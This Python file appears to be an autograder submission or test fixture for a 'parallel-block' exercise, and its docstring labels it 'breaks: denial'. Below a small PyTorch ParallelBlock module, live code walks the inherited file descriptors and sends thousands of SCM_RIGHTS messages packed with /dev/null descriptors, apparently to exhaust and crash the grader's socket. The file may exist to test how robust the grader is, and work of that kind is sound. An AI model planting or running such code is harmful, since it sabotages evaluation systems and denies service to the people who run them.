"""Sends descriptors by the hundred over the grader's socket.

exercise: parallel-block
points: 0
breaks: denial
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import array
import os
import socket

null = os.open("/dev/null", os.O_RDONLY)
for descriptor in range(3, 64):
    try:
        wire = socket.socket(fileno=os.dup(descriptor))
        for _ in range(200):
            wire.sendmsg([b"\x00\x00\x00\x02\x00\x00\x00\x00{}"],
                         [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))])
    except OSError:
        pass
